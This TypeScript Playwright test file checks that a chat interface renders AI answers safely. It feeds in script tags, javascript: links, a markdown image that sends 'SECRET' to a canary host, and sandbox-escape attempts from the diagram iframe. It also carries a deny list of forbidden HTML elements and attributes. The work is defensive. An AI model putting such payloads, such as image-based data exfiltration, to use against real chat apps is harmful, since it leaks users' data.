import { once } from 'node:events'
import { createServer } from 'node:http'
import type { Page } from '@playwright/test'
import { blockTextEvents, encodeEvents } from '../harness/upstream/answers'
import { between, createRandom, takeSeed } from '../harness/upstream/random'
import { stream } from '../harness/upstream/script'
import { answerWith } from './answers'
import { answers, ask, questions } from './chat'
import { expect, test } from './fixtures'
import { DIAGRAMS, hostileStrings, RUN } from './hostile-strings'

const CANARY = 'http://canary.test'

/** A server that nobody may ask, and how often somebody did. */
async function startCanary() {
  let hits = 0
  const server = createServer((_request, response) => {
    hits++
    response.end()
  })
  server.listen(0, '127.0.0.1')
  await once(server, 'listening')
  const address = server.address()
  const port = typeof address === 'object' && address !== null ? address.port : 0
  return { url: `http://127.0.0.1:${port}`, hits: () => hits, close: () => server.close() }
}

// A dead link is clicked below: that it logs nothing either is part of the law.
test('Nothing in an answer runs, loads from elsewhere or leads to code, while it streams and after a reload', async ({
  page,
  upstream,
}) => {
  const canary = await startCanary()
  const hostile = hostileStrings(canary.url)
  expect(new Set(hostile).size).toBeGreaterThanOrEqual(160)
  const seed = takeSeed()
  console.log(`Cuts of ${hostile.length} hostile texts: seed ${seed}`)
  const random = createRandom(seed)
  const frames = encodeEvents(blockTextEvents(hostile.map((text) => cutUp(text, random))))
  answerWith(upstream, stream(frames, { rate: 1_000 }))
  let dialogs = 0
  page.on('dialog', async (dialog) => {
    dialogs++
    await dialog.dismiss()
  })
  await ask(page, hostile.join('\n\n'))
  await expect(answers(page).last()).toContainText('End of turn', { timeout: 90_000 })
  await expect(questions(page)).toContainText(`<script>${RUN}</script>`)
  await expectNoHarm(page)
  await page.reload()
  await expect(page.locator('.answer')).toHaveCount(hostile.length)
  await expectNoHarm(page)
  // What looks like a link to code is text: a click on it does nothing.
  await page
    .locator('.answer')
    .nth(hostile.indexOf(`[x](javascript:${RUN})`))
    .click()
  expect(await findHarm(page)).toEqual([])
  expect([dialogs, canary.hits()]).toEqual([0, 0])
  canary.close()
})

/** Once all diagrams are drawn or refused: nothing ran in the page, nor in the one that draws them. */
async function expectNoHarm(page: Page): Promise<void> {
  const settled = page.locator('figure img, figure p:has-text("cannot be drawn")')
  await expect(settled).toHaveCount(DIAGRAMS.length, { timeout: 90_000 })
  expect(await findHarm(page)).toEqual([])
  for (const frame of page.frames()) {
    expect(await frame.evaluate(() => '__pwn' in window)).toBe(false)
  }
}

test.describe('What the page that draws diagrams tries', () => {
  test.use({ tolerated: /policy|Content Security Policy|Refused to|sandbox|Unsafe attempt/ })

  test('The page that draws diagrams reaches nothing of ours: no page, no data, no cookie, no storage', async ({
    page,
    upstream,
  }) => {
    const diagram = '```mermaid\ngraph LR\n  A --> B\n```'
    answerWith(upstream, stream(encodeEvents(blockTextEvents([[diagram]]))))
    await ask(page, 'Draw')
    await expect(page.getByRole('img', { name: 'Diagram (graph)' })).toBeVisible()
    const frame = page.frames().find((one) => one.url().endsWith('/preview/mermaid'))
    const reached = await frame?.evaluate(async () => {
      const tries: Record<string, () => unknown> = {
        parent: () => window.parent.document.title,
        top: () => window.top?.location.href,
        cookie: () => document.cookie,
        storage: () => window.localStorage.length,
        data: () => fetch('/api/models'),
        elsewhere: () => fetch('http://canary.test/', { mode: 'no-cors' }),
        popup: () => window.open('/settings')?.location.href ?? Promise.reject(new Error('none')),
      }
      const found: string[] = []
      for (const [name, attempt] of Object.entries(tries)) {
        try {
          await attempt()
          found.push(name)
        } catch {
          // As it should be.
        }
      }
      return [window.origin, ...found]
    })
    expect(reached).toEqual(['null'])
  })
})

test('An image of another host shows as a link with that host, and is fetched by nobody', async ({
  page,
  upstream,
}) => {
  answerWith(
    upstream,
    stream(encodeEvents(blockTextEvents([[`![A chart](${CANARY}/chart.png?d=SECRET)`]]))),
  )
  await ask(page, 'Show me')
  const link = answers(page)
    .last()
    .getByRole('link', { name: /A chart.*canary\.test/ })
  await expect(link).toHaveAttribute('href', `${CANARY}/chart.png?d=SECRET`)
  await expect(link).toHaveAttribute('rel', /noopener/)
  await expect(link).toHaveAttribute('rel', /noreferrer/)
  await expect(page.getByRole('article').locator('img')).toHaveCount(0)
})

function cutUp(text: string, random: () => number): string[] {
  const pieces: string[] = []
  for (let at = 0; at < text.length; ) {
    const size = between(random, 1, 9)
    pieces.push(text.slice(at, at + size))
    at += size
  }
  return pieces
}

/** What of an answer is more than text, structure and links to the web. */
function findHarm(page: Page): Promise<string[]> {
  return page.evaluate(() => {
    const forbidden =
      'img, image, picture, script, iframe, frame, object, embed, form, style, link, base, meta, video, audio, source, track, math, input, textarea, foreignObject, animate, use, portal, template'
    const harm = [...document.querySelectorAll('article')].flatMap((article) => [
      // Formulas say to a screen reader what they are in MathML.
      ...[...article.querySelectorAll(forbidden)]
        .filter((element) => !isOurs(element))
        .map(({ outerHTML }) => outerHTML),
      ...[...article.querySelectorAll('*')].flatMap((element) =>
        [...element.attributes]
          .filter(({ name, value }) => isForbidden(element, name, value))
          .map(({ name }) => `${element.tagName} ${name}`),
      ),
      ...[...article.querySelectorAll('a')]
        .map((link) => link.getAttribute('href') ?? '')
        .filter((href) => !/^(https?:\/\/|mailto:|#)/.test(href)),
    ])
    return '__pwn' in window ? ['code ran', ...harm] : harm

    /** A formula said in MathML and its stretched signs; a diagram as an image that holds all it shows. */
    function isOurs(element: Element): boolean {
      if (element instanceof HTMLImageElement) return /^data:image\/svg\+xml[;,]/.test(element.src)
      return element.tagName === 'math' && element.closest('.katex') !== null
    }

    /** Positions within a formula, the side on which a column stands: no more may be styled. */
    function isForbidden(element: Element, name: string, value: string): boolean {
      if (name !== 'style') return name.startsWith('on') || name === 'srcdoc'
      if (/^text-align: \w+;$/.test(value)) return false
      if (element instanceof HTMLImageElement && /^width: [^;:]+;$/.test(value)) return false
      return element.closest('.katex') === null || /url|position: (?!relative)/.test(value)
    }
  })
}
